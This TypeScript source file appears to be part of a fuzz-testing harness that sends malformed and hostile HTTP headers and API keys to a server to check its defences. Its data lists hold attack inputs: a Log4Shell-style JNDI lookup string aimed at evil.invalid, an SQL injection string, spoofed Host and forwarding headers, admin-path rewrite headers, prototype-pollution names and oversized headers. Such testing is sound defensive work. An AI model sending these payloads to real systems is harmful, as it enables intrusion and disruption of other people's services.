import type { Random } from "../random.ts";
import { type Draft, setHeader } from "./draft.ts";
import type { Trick } from "./near-tricks.ts";

/** Node takes so many bytes of headers, and answers 431 to more. */
const HEADER_BYTES_MAX = 16_384;
const IDEMPOTENCY_KEYS = ["", " ", "\t", "a b", "é", "\xff\xfe", "a,b", '"a"', "a\tb", "../x", "*", "%00", "{}", "-0"];
const KEYS = ["", " ", "null", "undefined", "\xff", "a:b", "sk_live_", "sk_test_", "' OR 1=1 --", "__proto__", "*"];
const BASIC = ["", "=", "!!!!", "Og==", "////", "gICAgA=="];
/** Headers in which proxies, frameworks or our own processes believe something. */
const BELIEVED = [
  ["X-Forwarded-For", "127.0.0.1, ::1, unknown, <script>"],
  ["X-Forwarded-Proto", "javascript"],
  ["X-Forwarded-Host", "evil.invalid"],
  ["Forwarded", "for=127.0.0.1;by=x;host=evil.invalid"],
  ["X-Http-Method-Override", "DELETE"],
  ["X-Original-Url", "/api/v1/admin/queues"],
  ["X-Rewrite-Url", "/metrics"],
  ["X-Request-Id", "a b\xff"],
  ["X-Request-Id", "x".repeat(5_000)],
  ["X-Sms-Client-Address", "10.0.0.1"],
  ["X-Sms-Client-Address-Signature", "0".repeat(64)],
  ["X-Twilio-Signature", "AAAA"],
  ["X-Twilio-Signature", "\xff\xff"],
  ["Accept", "\xff/\xff;q=x"],
  ["Accept-Encoding", "gzip;q=1e400, *;q=-1"],
  ["Accept-Version", "9.9.9"],
  ["Accept-Version", "\xff"],
  ["Range", "bytes=0-1,-1,9-2"],
  ["If-None-Match", "*"],
  ["If-Modified-Since", "yesterday"],
  ["Cookie", "a=b; __proto__=c; =; ;;"],
  ["Origin", "null"],
  ["Host", "evil.invalid:99999"],
  ["Host", ""],
  ["Content-Length ", "5"],
  ["Connection", "api-key, close"],
  ["Connection", "Upgrade"],
  ["Upgrade", "h2c"],
  ["Expect", "100-continue"],
  ["Expect", "everything"],
  ["Trailer", "API-Key"],
  ["TE", "trailers, deflate"],
  ["Content-Encoding", "gzip"],
  ["User-Agent", "\xf0\x9f\x98\x80 \x24{jndi:ldap://evil.invalid}"],
  ["User-Agent", "x".repeat(8_000)],
  ["Traceparent", "00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff"],
] as const;

/** Headers that no honest client sends. */
export const HOSTILE_HEADERS: readonly Trick[] = [
  {
    name: "an odd Idempotency-Key",
    apply: (draft, { random }) => setHeader(draft, "Idempotency-Key", random.pick(IDEMPOTENCY_KEYS)),
  },
  {
    name: "a long Idempotency-Key",
    apply: (draft, { random }) => setHeader(draft, "Idempotency-Key", "k".repeat(random.int(257, 12_000))),
  },
  {
    name: "two Idempotency-Keys",
    apply: (draft) => void draft.headers.push(["Idempotency-Key", "one"], ["idempotency-key", "two"]),
  },
  {
    name: "a header that is believed",
    apply: (draft, { random }) => {
      const [name, value] = random.pick(BELIEVED);
      if (name.endsWith(" ") || value === "everything") draft.also.push(400, 417);
      setHeader(draft, name, value);
    },
  },
  {
    name: "large headers",
    apply: (draft, { random }) => {
      const bytes = random.pick([8_000, HEADER_BYTES_MAX - 2_000, HEADER_BYTES_MAX + 1, 100_000]);
      draft.headers.push(["X-Large", "x".repeat(bytes)]);
      if (bytes > HEADER_BYTES_MAX - 3_000) draft.also.push(431);
      // The answer goes out while the headers still come in.
      if (bytes > HEADER_BYTES_MAX) draft.mayBreak = "the headers are larger than are taken";
    },
  },
  {
    name: "very many headers",
    apply: (draft, { random }) => {
      const count = random.pick([100, 1_000, 2_100]);
      for (let index = 0; index < count; index += 1) draft.headers.push([`x${index}`, "1"]);
      draft.also.push(431);
      if (count > 1_000) draft.mayBreak = "the headers are larger than are taken";
    },
  },
  {
    name: "header names of the prototype",
    apply: (draft) => void draft.headers.push(["__proto__", "x"], ["constructor", "x"], ["hasOwnProperty", "x"]),
  },
  { name: "no key", apply: (draft) => beStranger(draft, []) },
  { name: "an odd key", apply: (draft, { random }) => beStranger(draft, [["API-Key", random.pick(KEYS)]]) },
  {
    name: "a long key",
    apply: (draft, { random }) => beStranger(draft, [["API-Key", "k".repeat(random.pick([256, 257, 9_000]))]]),
  },
  {
    name: "an unknown key",
    apply: (draft, { random }) => beStranger(draft, [["API-Key", `sk_live_${randomText(random)}`]]),
  },
  {
    name: "a key of another scope",
    apply: (draft, { known, random }) => beStranger(draft, [["API-Key", random.pick(Object.values(known.keys))]]),
  },
  {
    name: "odd Basic credentials",
    apply: (draft, { random }) => beStranger(draft, [["Authorization", `Basic ${random.pick(BASIC)}`]]),
  },
  {
    name: "an odd scheme",
    apply: (draft, { random }) => {
      const scheme = random.pick([
        "Bearer",
        "Bearer  ",
        "Digest x",
        "bearer \xff",
        `${" ".repeat(500)}Bearer x`,
        ",,,",
      ]);
      beStranger(draft, [["Authorization", scheme]]);
    },
  },
  {
    name: "the key twice, one wrong",
    apply: (draft) => {
      draft.isStranger = true;
      draft.headers.push(["api-key", "wrong"]);
    },
  },
];

function beStranger(draft: Draft, headers: Draft["headers"]): void {
  draft.isStranger = true;
  draft.headers = draft.headers.filter(([name]) => name !== "API-Key");
  draft.headers.push(...headers);
}

function randomText(random: Random): string {
  return Array.from({ length: 32 }, () => random.int(0, 35).toString(36)).join("");
}
